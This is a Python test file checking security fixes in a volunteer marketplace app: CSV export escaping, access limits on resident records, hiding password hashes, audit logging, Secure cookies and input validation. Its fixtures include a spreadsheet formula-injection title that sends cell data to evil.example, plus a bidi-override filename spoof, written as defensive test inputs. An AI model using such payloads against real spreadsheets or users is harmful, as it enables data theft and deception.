"""Issue 21 items 7, 8, 9 and 13: exports, who reads whom, the admin's raw tables, input
hygiene and phones kept out of URLs."""

from __future__ import annotations

import csv
import io

from marketplace.security.text import csv_cell
from tests.factories import PASSWORD, as_, make_world, wish_in_state
from tests.fixtures import settings_for, start_app
from tests.web.helpers import page_login, post_form


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
    """Item 7: = + - @ tab and CR at the start of a cell become text."""
    for bad in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")'):
        assert csv_cell(bad) == "'" + bad
    assert csv_cell("辅导数学") == "辅导数学" and csv_cell(-2.5) == -2.5 and csv_cell(3) == 3


async def test_a_formula_title_reaches_the_volunteers_csv_as_text(running):
    """Item 7: the probe's wish title starting with = arrives escaped in me.csv."""
    world = await make_world()
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    await wish_in_state(running, world, "fulfilled", title=title)
    vol = await as_(running, world, "vol0")
    r = await vol.get("/api/v1/service-record/me.csv")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert "'" + title in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


async def test_a_grid_worker_reads_residents_not_staff(running):
    """Item 8: /residents/{id} is not a directory of coordinators, volunteers or the admin."""
    world = await make_world()
    grid = await as_(running, world, "grid")
    assert (await grid.get(f"/api/v1/residents/{world.people['resident']}")).status_code == 200
    for key in ("coord", "vol0", "subcoord"):
        r = await grid.get(f"/api/v1/residents/{world.people[key]}")
        assert r.status_code == 404, key


async def _admin_client(app, world, username: str):
    from marketplace.admin.tables import AdminUser

    await AdminUser.create_user(
        username=username, password="admin-password-1", admin=True, active=True, superuser=True
    )
    client = app.client()
    await client.get("/admin/")
    r = await client.post(
        "/admin/public/login/",
        json={"username": username, "password": "admin-password-1"},
        headers={"X-CSRFToken": client.cookies.get("csrftoken")},
    )
    assert r.status_code in (200, 303), r.text
    return client, r


async def test_the_admin_never_shows_password_hashes_and_its_writes_are_audited(running):
    """Item 9: no password_hash in any admin answer; changing a role leaves an audit entry."""
    from marketplace.accounts.tables import RoleGrant
    from marketplace.audit.tables import AuditEntry

    world = await make_world()
    client, _ = await _admin_client(running, world, world.phones["subcoord"])
    people = await client.get("/admin/api/tables/person/", params={"__page_size": 100})
    assert people.status_code == 200 and people.json()["rows"], people.text
    assert "argon2" not in people.text
    assert all(row.get("password_hash") is None for row in people.json()["rows"])
    one = await client.get(f"/admin/api/tables/person/{world.people['resident']}/")
    assert "argon2" not in one.text

    grant = (
        await RoleGrant.select(RoleGrant.id).where(RoleGrant.person == world.people["vol0"]).first()
    )
    r = await client.patch(
        f"/admin/api/tables/role_grant/{grant['id']}/",
        json={"role": "coordinator"},
        headers={"X-CSRFToken": client.cookies.get("csrftoken")},
    )
    assert r.status_code == 200, r.text
    entries = (
        await AuditEntry.select().where(AuditEntry.action == "admin.update").output(load_json=True)
    )
    assert len(entries) == 1
    entry = entries[0]
    assert entry["object_type"] == "role_grant" and entry["object_id"] == grant["id"]
    assert entry["actor"] == world.people["subcoord"]
    assert entry["detail"]["values"] == {"role": "coordinator"}


async def test_the_admin_runs_with_production_settings_over_https(clean):
    """Item 9: with LIANXIN_HTTPS its session cookie is Secure."""
    world = await make_world()
    app = await start_app(settings_for("memory", https=True))
    try:
        _, login = await _admin_client(app, world, world.phones["subcoord"])
        cookies = login.headers.get_list("set-cookie")
        assert cookies and all("secure" in c.lower() for c in cookies)
    finally:
        await app.stop()


async def test_text_of_only_spaces_or_control_characters_is_refused_naming_the_field(running):
    """Item 13: titles of only spaces, with NUL, with bidi overrides; the field is named."""
    world = await make_world()
    resident = await as_(running, world, "resident")
    base = {"title": "帮忙修水龙头", "category": "repairs", "hours": 1.0}
    for title, code in (
        ("     ", "security_text_blank"),
        ("\u3000\u200b ", "security_text_blank"),
        ("修水\x00龙头", "security_text_control"),
        ("修水龙头\u202egnp.exe", "security_text_control"),
        ("\u2066修水龙头\u2069", "security_text_control"),
    ):
        r = await resident.post("/api/v1/wishes", json={**base, "title": title})
        assert r.status_code == 400, (title, r.text)
        # blank titles are already refused by the schema's own check, as a missing title
        codes = {code, "validation_required"} if code == "security_text_blank" else {code}
        assert r.json()["field"] == "title" and r.json()["code"] in codes, r.text
        assert "标题" in r.json()["message"]
    r = await resident.post("/api/v1/wishes", json={**base, "description": "第一行\n第二行\t缩进"})
    assert r.status_code == 201, r.text  # newlines and tabs in long text are fine


async def test_a_profile_cannot_hold_thousands_of_skills(running):
    """Item 13: 5,000 skills are refused with a message naming the field."""
    world = await make_world()
    vol = await as_(running, world, "vol0")
    body = {
        "skills": [f"skill{i}" for i in range(5000)],
        "home_lat": 36.07,
        "home_lng": 120.38,
        "weekly_hours": 4,
        "weekly_tasks": 2,
        "max_distance_m": 3000,
    }
    r = await vol.put("/api/v1/me/volunteer-profile", json=body)
    assert r.status_code == 400 and r.json()["field"] == "skills", r.text
    r = await vol.put("/api/v1/me/volunteer-profile", json={**body, "skills": ["tutoring"]})
    assert r.status_code == 200


async def test_the_grid_search_keeps_the_phone_out_of_the_url(running):
    """Item 13: the resident search is a POST; a query string searches nothing."""
    world = await make_world()
    client = running.client()
    await page_login(client, world.phones["grid"], PASSWORD)
    link = f"/wishes/new?resident_id={world.people['resident']}"
    by_url = await client.get("/grid", params={"q": world.phones["resident"]})
    assert link not in by_url.text
    assert 'method="get" action="/grid"' not in by_url.text
    posted = await post_form(client, "/grid", "/grid/search", {"q": world.phones["resident"]})
    assert posted.status_code == 200 and link in posted.text
